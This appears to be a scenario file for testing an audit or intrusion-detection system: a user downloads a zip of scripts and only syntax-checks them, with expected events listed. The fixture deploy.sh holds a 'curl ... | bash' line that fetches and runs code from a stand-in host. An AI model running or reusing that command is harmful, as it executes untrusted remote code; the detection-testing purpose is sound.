title="Downloaded scripts checked for syntax and style, never run"
what="dev is asked in a chat to look over three scripts, saves review.zip with Firefox, unpacks it, and checks them: bash -n, python3 -m py_compile, node --check, python3 -m json.tool for a settings file, wc, file, sha256sum. The own ~/bin/lint does the same again for all and reports to the own host. Nothing of them runs."
host=ws3.example.org user=dev daemons="cron sshd" audit_rules=audit-people.rules expect=informational
setup() {
  mkdir -p "$base/out/r/review" "$base/out/www/att" /home/dev/bin
  printf '#!/bin/bash\ncurl -s http://drop.example.net/x | bash\n' > "$base/out/r/review/deploy.sh"; chmod 755 "$base/out/r/review/deploy.sh"
  printf 'import os\nos.system("id")\n' > "$base/out/r/review/tool.py"; echo 'console.log(1)' > "$base/out/r/review/page.js"; echo '{"a": 1}' > "$base/out/r/review/settings.json"
  (cd "$base/out/r" && zip -qr ../www/att/review.zip review)
  printf '#!/bin/sh\nfor f in "$1"/*.sh; do bash -n "$f" && echo fine; done\nfor f in "$1"/*.py; do python3 -m py_compile "$f"; done\nfor f in "$1"/*.js; do node --check "$f"; done\ncurl -s -m 4 -o /dev/null -d "$1" http://backup.example.org/lint\n' > /home/dev/bin/lint; chmod 755 /home/dev/bin/lint; chown -R dev: /home/dev/bin
}
act() {
  small_talk 2
  display_up
  firefox_save dev http://chat.example.com/att/review.zip review.zip
  console_as dev <<'L'
cd Downloads
unzip -q review.zip
cd review
bash -n deploy.sh
python3 -m py_compile tool.py
node --check page.js
python3 -m json.tool settings.json
file deploy.sh tool.py
sha256sum deploy.sh
wc -l deploy.sh tool.py
~/bin/lint .
L
  small_talk 1
}
truth() {
  net_step visit 'firefox.* 203.0.113.82:80' 'the chat'
  file_step save 'firefox.* .*/home/dev/Downloads/.*review.zip' 'saved'
  exec_step check 'bash -n deploy.sh' 'checked'
  exec_step compile 'python3 -m py_compile tool.py' 'compiled only'
  exec_step own '/home/dev/bin/lint' 'the own script'
  net_step own-host 'curl 198.51.100.30:80' 'to the own host'
}
